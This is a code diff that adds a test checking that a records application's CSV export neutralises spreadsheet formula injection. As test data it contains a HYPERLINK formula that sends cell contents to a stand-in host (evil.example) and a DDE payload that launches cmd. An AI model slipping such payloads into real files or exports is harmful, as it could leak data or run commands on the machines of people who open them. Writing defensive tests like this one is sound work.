@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from datetime import date, timedelta
 from pathlib import Path
 from typing import Any
@@ -429,3 +430,25 @@ def _child_processes() -> list[str] | None:
             return None
         found += children.read_text().split()
     return found
+
+
+def test_an_exported_csv_runs_no_formula_and_imports_back_the_same_values(
+    session: Session, tmp_path: Path
+) -> None:
+    typed = {
+        "event_place": '=HYPERLINK("http://evil.example/?"&A1,"Berlin")',
+        "circumstances": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "holder_surname": "-2+3",
+        "holder_given_names": "+ANNA",
+        "incident_ref": "'=quoted",
+    }
+    service.create_record(session, ADMIN, fields(**typed))
+    exported = tmp_path / "exported.csv"
+    write_rows(exported, export_rows(session))
+    ((_, row),) = list(read_rows(exported))
+    assert {name: row[name] for name in typed} == typed
+
+    with exported.open(newline="") as file:
+        cells = [cell for line in list(csv.reader(file))[1:] for cell in line]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK" in exported.read_text()
